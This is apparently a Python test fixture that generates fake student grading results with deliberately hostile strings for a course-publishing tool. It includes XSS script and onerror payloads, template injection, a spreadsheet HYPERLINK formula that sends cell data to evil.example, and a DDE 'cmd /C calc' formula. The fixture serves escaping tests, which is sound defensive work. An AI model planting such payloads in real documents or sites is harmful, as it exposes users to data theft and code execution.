"""A made-up class: results of both assignments with real rubrics, and strings that do harm."""

import base64
import random
import struct
import zlib
from functools import cache

from course_utils.assignments.definition import find
from course_utils.assignments.folder import show
from course_utils.assignments.rubric import load_rubric
from course_utils.grading import names, publishing
from course_utils.grading.results import (
    Entry,
    Evidence,
    Figures,
    Fingerprints,
    Item,
    Owner,
    Result,
    Score,
    Work,
    rubric_fingerprint,
    write_result,
)

SCRIPT = "<script>window.harmed = 1</script><img src=x onerror='window.harmed = 1'>"
CLOSING = "</script></textarea></title><script>window.harmed = 1</script>{{ 7 * 7 }}"
NAMES = (
    "Zoë Müller",
    SCRIPT,
    '=HYPERLINK("http://evil.example/?" & A1, "click")',
    "عبد الله \u202etxet desrever",
    "王小明",
    'O\'Brien, "Pat"',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tAda\nLovelace\r",
    "Long " + "name " * 200,
    "-2+3",
    "Grace Hopper",
    "Katherine Johnson",
    "Alan Turing",
    "Emmy Noether",
)
TASKS = {"understanding": "field_f1", "report": "fact_accuracy", "qa": "token_f1"}
SECRET = "hidden record: BEARING SEIZED ON PUMP 7"  # must never reach a page; no field takes it


def picture(red: int = 30) -> str:
    """A small PNG as a data: address."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    rows = b"".join(b"\0" + bytes([red, 98, 155] * 120) for _ in range(60))
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 120, 60, 8, 2, 0, 0, 0))
    png = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return "data:image/png;base64," + base64.b64encode(png).decode()


@cache
def rubric(assignment="week09_10"):
    return load_rubric(find(assignment).path / "rubric.yaml")


def make_item(item, rng, number=0):
    """One item: partial credit, evidence, and for a person the student's own work."""
    if item.kind == "manual":
        texts = [f"What I decided, and why ({number}). {SCRIPT}", CLOSING, "word " * 400]
        work = [Work(kind="text", title="README.md", content=texts[number % 3])]
        work.append(Work(kind="code", title=f"cell {number}", content="print('<b>')\n" * 5))
        work.append(Work(kind="image", title="figure", content=picture(number % 200)))
        return Item(
            id=item.id, title=item.title, points=None, max=item.points, state="manual", work=work
        )
    share = rng.choice([0.0, 0.5, 1.0, 1.0, 1.0])
    return Item(
        id=item.id,
        title=item.title,
        points=share * item.points,
        max=item.points,
        state="scored" if share else "failed",
        evidence=[
            Evidence(label="records", found="5,120", stated="5,200", note="counted again"),
            Evidence(label=SCRIPT, found=CLOSING),
        ],
        feedback="" if share == 1 else f"Write more records. {SCRIPT}",
    )


def make_result(number, seed=7, assignment="week09_10", **changes):
    """The result of student `number`."""
    rng = random.Random(seed * 1000 + number)
    used = rubric(assignment)
    name = changes.pop("name", NAMES[number % len(NAMES)])
    losses = [[float(step), 3.0 * 0.93**step + rng.random() / 5] for step in range(60)]
    scores = {
        task: {
            metric: Score(
                base=round(rng.uniform(0.1, 0.3), 3),
                tuned=round(rng.uniform(0.3, 0.9), 3),
                low=0.1,
                high=0.4,
                rivals={"nearest neighbour": 0.41, "all values": 0.12},
            )
        }
        for task, metric in TASKS.items()
    }
    values = {
        "submission": names.slug(name, str(1000 + number)),
        "owner": Owner(
            name=show(name, 200), lms="canvas", ids={"canvas": str(1000 + number)}, late=False
        ),
        "assignment": assignment,
        "kit_version": "0.1.0",
        "rubric": rubric_fingerprint(used),
        "status": "graded",
        "verdict": "graded",
        "sandbox": "bwrap",
        "items": [make_item(item, rng, number) for item in used.items],
        "seconds": 40.0 + number,
        "memory_gb": 1.5,
        "cells": 20,
        "figures": Figures(
            train_loss=losses, eval_loss=[losses[9], losses[29], losses[59]], scores=scores
        ),
        "integrity": Fingerprints(adapter=f"{number:064x}"),
    }
    return Result(**(values | changes))


def make_class(count=14, seed=7, assignment="week09_10"):
    """A class with each kind of ending."""
    found = [make_result(number, seed, assignment) for number in range(count)]
    ends = {
        1: ("timed out", "time limit in cell 7", 7),
        3: ("failed", "kernel died in cell 4", 4),
        5: ("not gradable", "not gradable here: base model x/y is not on this machine", None),
        6: ("rejected", "rejected: links in the archive", None),
    }
    for number, (status, verdict, cell) in ends.items():
        if number < count:
            items = [
                Item(id=i.id, title=i.title, points=None, max=i.max, state="not judged",
                     feedback="there was nothing to judge")
                for i in found[number].items
            ] if status in ("rejected", "not gradable") else found[number].items  # fmt: skip
            update = {"status": status, "verdict": verdict, "failed_cell": cell, "items": items}
            found[number] = found[number].model_copy(update=update)
    if count > 11:
        entry = Entry(
            name="<b>night shift</b>",
            scores={"understanding": 0.61, "report": 0.5, "qa": 0.7},
            rivals={"nearest neighbour": {"understanding": 0.55, "report": 0.6, "qa": 0.3}},
            base_model="smollm2-135m-instruct",
            preset="cpu",
            minutes=41.0,
            tokens=1_204_000,
        )
        found[10] = found[10].model_copy(update={"leaderboard": entry})
        nothing = Entry(name="no scores yet", base_model="nano", preset="nano")
        found[11] = found[11].model_copy(update={"leaderboard": nothing})
    return found


def write_class(folder, results):
    """GRADES with these results, ours."""
    publishing.claim(folder, results[0].assignment)
    for result in results:
        write_result(folder, result)
    return folder
